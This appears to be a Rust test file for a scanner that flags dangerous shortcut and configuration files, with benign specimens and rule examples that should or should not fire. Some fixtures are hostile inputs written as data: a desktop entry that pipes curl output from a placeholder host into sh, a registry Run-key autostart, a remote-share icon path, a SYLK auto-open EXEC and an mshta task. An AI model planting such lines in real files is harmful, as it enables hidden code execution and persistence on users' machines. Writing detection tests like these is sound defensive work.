use crate::forge::text::{job, utf16};
use crate::forge::{Case, Example, Specimen, case, fired, type_of};
use sheepdip::model::report::Verdict;

pub const SPECIMENS: &[Specimen] = &[
    ("url", || b"[InternetShortcut]\r\nURL=https://example.invalid/\r\n".to_vec()),
    ("desktop-entry", || b"[Desktop Entry]\nType=Application\nName=Editor\nExec=editor %f\n".to_vec()),
    ("reg", || {
        b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Editor]\r\n\"Size\"=dword:00000001\r\n".to_vec()
    }),
    ("inf", || b"; driver\r\n[Version]\r\nSignature=\"$Windows NT$\"\r\nClass=Printer\r\n".to_vec()),
    ("scf", || b"[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n".to_vec()),
    ("theme", || {
        b"[Theme]\r\nDisplayName=Sea\r\n[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\sea.jpg\r\n".to_vec()
    }),
    ("desktop-ini", || b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\system32\\shell32.dll,4\r\n".to_vec()),
    ("autorun", || b"[autorun]\r\nopen=setup.exe\r\nicon=setup.exe\r\n".to_vec()),
    ("rdp", || b"screen mode id:i:2\r\nfull address:s:host.invalid\r\n".to_vec()),
    ("iqy", || b"WEB\r\n1\r\nhttps://example.invalid/table\r\n\r\n".to_vec()),
    ("slk", || b"ID;PWXL;N;E\r\nC;X1;Y1;K1\r\nE\r\n".to_vec()),
    ("ovpn", || b"client\ndev tun\nremote vpn.invalid 1194\nca ca.crt\n".to_vec()),
    ("clickonce", || {
        b"<?xml version=\"1.0\"?><asmv1:assembly xmlns:asmv1=\"urn:schemas-microsoft-com:asm.v1\"><deployment install=\"true\"><x/></deployment><dependency><dependentAssembly/></dependency></asmv1:assembly>".to_vec()
    }),
    ("appinstaller", || {
        b"<?xml version=\"1.0\"?><AppInstaller xmlns=\"http://schemas.microsoft.com/appx/appinstaller/2018\"></AppInstaller>".to_vec()
    }),
    ("jnlp", || b"<?xml version=\"1.0\"?><jnlp spec=\"1.0+\"></jnlp>".to_vec()),
    ("library-ms", || {
        b"<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><url>C:\\Users</url></libraryDescription>".to_vec()
    }),
    ("searchconnector-ms", || {
        b"<?xml version=\"1.0\"?><searchConnectorDescription xmlns=\"http://schemas.microsoft.com/windows/2009/searchConnector\"></searchConnectorDescription>".to_vec()
    }),
    ("search-ms", || b"<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"></persistedQuery>".to_vec()),
    ("settingcontent-ms", || {
        b"<?xml version=\"1.0\"?><PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><DeepLink>control.cpl</DeepLink></SearchableContent></PCSettings>".to_vec()
    }),
    ("msc", || b"<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"></MMC_ConsoleFile>".to_vec()),
    ("contact", || {
        b"<?xml version=\"1.0\"?><c:contact xmlns:c=\"http://schemas.microsoft.com/Contact\"></c:contact>".to_vec()
    }),
    ("webloc", || {
        b"<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>URL</key><string>https://x.invalid</string></dict></plist>".to_vec()
    }),
    ("terminal", || {
        b"<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>CommandString</key><string>top</string></dict></plist>".to_vec()
    }),
    ("workflow", || {
        b"<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>AMApplicationBuild</key><string>1</string></dict></plist>".to_vec()
    }),
    ("mobileconfig", || {
        b"<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>PayloadContent</key><array/></dict></plist>".to_vec()
    }),
    ("task", || {
        let root = "<?xml version=\"1.0\"?><Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"/>";
        utf16(root, true)
    }),
    ("appref-ms", || {
        let name = "a.application, Culture=neutral, PublicKeyToken=0, processorArchitecture=msil";
        utf16(&format!("http://x.invalid/a.application#{name}"), true)
    }),
    ("job", || job("notepad.exe")),
];

fn url(lines: &str) -> Case {
    case("link.url", format!("[InternetShortcut]\r\n{lines}\r\n"))
}

fn reg(lines: &str) -> Case {
    case("a.reg", utf16(&format!("Windows Registry Editor Version 5.00\r\n\r\n{lines}\r\n"), true))
}

pub const EXAMPLES: &[Example] = &[
    Example {
        rule: "shortcuts.other-computer",
        fires: || url("URL=https://x.invalid/\r\nIconFile=\\\\10.0.0.1\\share\\a.ico"),
        silent: || url("URL=https://x.invalid/\r\nIconFile=C:\\Windows\\system32\\url.dll"),
    },
    Example {
        rule: "shortcuts.dangerous-link",
        fires: || url("URL=search-ms:query=a&crumb=location:x"),
        silent: || url("URL=steam://rungameid/400"),
    },
    Example {
        rule: "shortcuts.runs-command",
        fires: || {
            case("a.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c \"curl https://x.invalid/a | sh\"\n")
        },
        silent: || case("a.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c \"exec editor --curl %f\"\n"),
    },
    Example {
        rule: "shortcuts.autostart",
        fires: || reg("[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"a\"=\"a.exe\""),
        silent: || reg("[HKEY_CURRENT_USER\\Software\\Editor\\Running]\r\n\"a\"=\"b\""),
    },
    Example {
        rule: "shortcuts.connection-script",
        fires: || case("a.ovpn", "client\ndev tun\nremote x.invalid 1\nup ./a.sh\n"),
        silent: || case("a.ovpn", "client\ndev tun\nremote x.invalid 1\n# up ./a.sh\n"),
    },
];

#[test]
fn an_honest_internet_shortcut_is_suspicious_and_no_more() {
    let report = url("URL=https://example.invalid/").examine();
    assert_eq!(report.judgement.verdict, Verdict::Suspicious, "{:?}", fired(&report));
}

#[test]
fn a_link_to_a_file_of_another_computer_is_dangerous_in_every_spelling() {
    let fires = |place: &str| fired(&url(&format!("URL={place}")).examine()).contains(&"shortcuts.other-computer");
    for place in
        ["file://10.0.0.1/a/b.exe", "file:////server.invalid/a", "\\\\server.invalid@80\\a", "//server.invalid/a"]
    {
        assert!(fires(place), "{place}");
    }
    for place in ["file:///C:/a/b.html", "file:///home/a/b.html", "file://C:/a/b.html", "https://x.invalid/"] {
        assert!(!fires(place), "{place}");
    }
}

#[test]
fn a_sheet_in_text_form_that_starts_a_program_is_dangerous() {
    let report = case("a.slk", "ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;K0;EEXEC(\"x\")\nE\n").examine();
    assert_eq!(type_of(&report), "slk");
    assert_eq!(report.judgement.verdict, Verdict::Dangerous);
}

#[test]
fn a_text_that_speaks_of_shortcuts_is_none() {
    let text = "An internet shortcut begins with the line\n\n    \"[InternetShortcut]\"\n\nand then its URL.\n";
    assert_eq!(type_of(&case("a.txt", text).examine()), "text");
}

#[test]
fn a_task_that_starts_a_script_host_is_dangerous() {
    assert!(fired(&case("a.job", job("C:\\Windows\\mshta.exe")).examine()).contains(&"shortcuts.runs-command"));
    assert!(!fired(&case("a.job", job("C:\\Windows\\notepad.exe")).examine()).contains(&"shortcuts.runs-command"));
}
